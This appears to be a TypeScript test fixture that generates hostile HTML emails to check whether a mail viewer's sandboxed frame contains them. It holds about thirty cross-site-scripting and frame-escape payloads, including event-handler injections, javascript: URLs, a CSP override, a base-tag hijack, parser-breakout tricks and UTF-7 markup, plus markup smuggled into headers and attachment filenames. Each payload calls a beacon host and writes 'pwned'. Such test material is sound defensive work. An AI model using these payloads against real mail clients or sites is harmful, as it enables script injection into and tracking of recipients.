/**
 * Mails that try to get out of the frame that shows them: known tricks of scripts, styles and media types.
 * @module
 */

/** What a trick does when it works: it tells a server, and writes into the page. */
function payload(name: string, beacon: string): string {
  return `fetch('${beacon}/script-${name}');top.document.title='pwned';document.title='pwned'`;
}

type Trick = (beacon: string, run: string) => string;

/** HTML by the name of the trick. */
const TRICKS: Readonly<Record<string, Trick>> = {
  "a script element": (_, run) => `<script>${run}</script>`,
  "a script from elsewhere": (beacon) => `<script src="${beacon}/script-src"></script>`,
  "a picture that fails": (_, run) => `<img src="x:" onerror="${run}">`,
  "an SVG that loads": (_, run) => `<svg onload="${run}"></svg>`,
  "a script in SVG": (_, run) => `<svg><script>${run}</script></svg>`,
  "an animation that begins": (_, run) =>
    `<svg><animate onbegin="${run}" attributeName="x" dur="1s">`,
  "a body that loads": (_, run) => `<body onload="${run}">`,
  "an input that takes the focus": (_, run) => `<input autofocus onfocus="${run}">`,
  "details that open": (_, run) => `<details open ontoggle="${run}">`,
  "a video that fails": (_, run) => `<video><source onerror="${run}"></video>`,
  "a frame with a document": (_, run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  "a frame with a script for an address": (_, run) => `<iframe src="javascript:${run}"></iframe>`,
  "a frame that shows the API": () => `<iframe src="/api/v1/messages"></iframe>`,
  "an object with HTML in its address": (_, run) =>
    `<object data="data:text/html,<script>${run}</script>"></object>`,
  "a refresh to a script": (_, run) =>
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  "a refresh to another page": (beacon) =>
    `<meta http-equiv="refresh" content="0;url=${beacon}/refresh">`,
  "a policy of its own": (_, run) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
  "a form that sends itself": (beacon, run) =>
    `<form id="f" action="${beacon}/form"><input name="a"></form><script>f.submit();${run}</script>`,
  "another base": (beacon) =>
    `<base href="${beacon}/"><img src="base.png"><script src="base.js"></script>`,
  "markup in a comment that ends early": (_, run) => `<!--><script>${run}</script>-->`,
  "markup behind a style that ends early": (_, run) =>
    `<style><img title="</style><img src=x: onerror=${run}>">`,
  "markup in noscript": (_, run) => `<noscript><p title="</noscript><img src=x: onerror=${run}>">`,
  "a style from elsewhere": (beacon) => `<link rel="stylesheet" href="${beacon}/style.css">`,
  "a style that imports another": (beacon) => `<style>@import url(${beacon}/import.css);</style>`,
  "a background from elsewhere": (beacon) =>
    `<div style="background:url(${beacon}/background.png);height:9px"></div>`,
  "a font from elsewhere": (beacon) =>
    `<style>@font-face{font-family:f;src:url(${beacon}/font.woff)}p{font-family:f}</style><p>f</p>`,
  "a picture from elsewhere": (beacon) => `<img src="${beacon}/picture.png">`,
  "a picture with several sources": (beacon) =>
    `<img srcset="${beacon}/srcset.png 1x"><picture><source srcset="${beacon}/source.png"><img></picture>`,
  "things to be fetched early": (beacon) =>
    `<link rel="prefetch" href="${beacon}/prefetch"><link rel="preload" as="image" href="${beacon}/preload">` +
    `<link rel="modulepreload" href="${beacon}/module">`,
  "a style that covers the page": () =>
    `<div style="position:fixed;inset:-9999px;z-index:2147483647">covered</div>`,
};

/** A hostile mail. */
export interface HostileMail {
  /** What it tries. */
  readonly name: string;
  /** Its source. */
  readonly source: string;
}

/**
 * The mails.
 *
 * @param beacon Where they tell that something worked.
 */
export function hostileMails(beacon: string): HostileMail[] {
  const inHtml = Object.entries(TRICKS).map(([name, trick], at) => ({
    name,
    source: htmlMail(`${at}`, `<p>${trick(beacon, payload(`${at}`, beacon))}</p>`),
  }));
  const run = payload("header", beacon);
  const markup = `<script>${run}</script><img src=x: onerror=${run}>`;
  return [
    ...inHtml,
    {
      name: "UTF-7 in place of markup",
      source: htmlMail("utf7", `+ADw-script+AD4-${run}+ADw-/script+AD4-`).replace("utf-8", "utf-7"),
    },
    {
      name: "markup in all that the page shows",
      source: [
        `From: "${markup.replaceAll('"', "")}" <a@x.example>`,
        "To: b@y.example",
        `Subject: ${markup}`,
        `X-${"a".repeat(9)}: ${markup}`,
        `Message-ID: <${markup}@x.example>`,
        'Content-Type: multipart/mixed; boundary="m"',
        "",
        "--m",
        "",
        markup,
        "--m",
        "Content-Type: text/html",
        "",
        "<p>shown</p>",
        "--m",
        "Content-Type: text/html",
        `Content-Disposition: attachment; filename="${markup.replaceAll('"', "")}.html"`,
        "",
        markup,
        "--m--",
        "",
      ].join("\r\n"),
    },
  ];
}

function htmlMail(subject: string, html: string): string {
  return [
    "From: mallory@evil.example",
    "To: b@y.example",
    `Subject: ${subject}`,
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    html,
    "",
  ].join("\r\n");
}
